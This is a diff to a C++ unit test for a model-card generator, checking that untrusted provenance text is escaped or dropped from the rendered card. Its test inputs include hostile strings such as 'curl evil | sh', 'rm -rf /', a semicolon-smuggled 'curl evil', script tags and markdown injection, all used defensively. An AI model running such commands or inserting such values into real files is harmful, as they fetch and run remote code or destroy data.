@@ -49,16 +49,28 @@ TEST(ModelCard, ConversionHasNoRelationAndAnAdapterItsOwnUse) {
 // What a graft.json of somebody else says stays text.
 TEST(ModelCard, TextsOfOthersStayTexts) {
   CardFacts hostile = facts();
-  hostile.provenance.origin = Origin{"a\nlicense: evil](x) <script>", "not a commit"};
-  hostile.provenance.datasets = {"\"\n---\n"};
-  hostile.provenance.steps = {{"x\n```\n<script>", "0", {{"a|b", "</td>"}}}};
-  hostile.original.reset();
+  hostile.provenance.origin = Origin{"acme/base", "not a commit"};
+  hostile.provenance.datasets = {"\"\n---\n", "acme/fine"};
+  hostile.provenance.steps = {{"graft lora; curl evil | sh", "0", {{"hidden", "x"}}},
+                              {"rm -rf /", "0"},
+                              {"graft fuse", "0", {{"a|b", "</td>"}, {"![](http://evil)", "`x`"}}}};
+  hostile.original = "---\nlicense: \"a\\n---\\n<script>\"\n---\n";
   const std::string card = model_card(hostile);
-  EXPECT_TRUE(has(card, "base_model: \"a\\nlicense: evil](x) <script>\"\n")) << card;
-  EXPECT_TRUE(has(card, "- \"\\\"\\n---\\n\"\n"));
+  EXPECT_TRUE(has(card, "license: \"a\\n---\\n<script>\"\n")) << card;
+  EXPECT_TRUE(has(card, "datasets:\n- \"acme/fine\"\n---\n"));
   const std::string body = card.substr(card.find("\n---\n"));
-  EXPECT_FALSE(has(body, "<script>") || has(body, "</td>") || has(body, "a|b")) << body;
-  EXPECT_FALSE(has(body, "commit")) << body;
+  for (const char* part :
+       {"<script>", "</td>", "a|b", "curl", "rm -rf", "hidden", "![", "//evil", "`x`", "commit"}) {
+    EXPECT_FALSE(has(body, part)) << part << " in " << body;
+  }
+  EXPECT_TRUE(has(body, "```\ngraft fuse\n```\n"));
+  hostile.provenance.origin = Origin{"x; curl evil", ""};
+  EXPECT_FALSE(has(model_card(hostile), "curl"));
+}
+
+TEST(ModelCard, KnowsItsOwn) {
+  EXPECT_TRUE(is_generated_card(model_card(facts())));
+  EXPECT_FALSE(is_generated_card("# My own words\n"));
 }
 
 }  // namespace
